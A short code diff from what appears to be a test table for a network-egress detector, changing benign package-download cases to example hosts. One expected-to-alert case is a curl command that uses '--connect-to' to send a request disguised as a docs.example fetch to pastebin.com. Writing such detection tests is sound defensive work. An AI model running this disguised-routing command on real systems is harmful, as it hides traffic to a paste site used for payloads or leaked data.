@@ -43,9 +43,9 @@ table(
         run("curl -sS --connect-to ::pastebin.com:443 https://docs.example/raw/Xk29dQ7a", at=Place.EXEC),
     ],
     quiet=[
-        run("curl -fsSLO https://deb.debian.org/debian/pool/main/j/jq/jq_1.7.1-3_amd64.deb", at=Place.HOST),
-        run("pip install --index-url https://pypi.org/simple requests", at=Place.ENTRY, workload=RUNNER),
-        run("npm ci --registry https://registry.npmjs.org", at=Place.ENTRY, workload=RUNNER, cwd="/builds/app"),
+        run("curl -fsSLO https://mirror.example/debian/pool/main/j/jq/jq_1.7.1-3_amd64.deb", at=Place.HOST),
+        run("pip install --index-url https://packages.example/simple requests", at=Place.ENTRY, workload=RUNNER),
+        run("npm ci --registry https://packages.example/npm", at=Place.ENTRY, workload=RUNNER, cwd="/builds/app"),
         line("echo 'Never put tokens on https://pastebin.com/raw' >> /app/docs/NOTES", runs=[], at=Place.EXEC),
         run("grep -rn transfer.sh /app/docs", at=Place.EXEC),
     ],
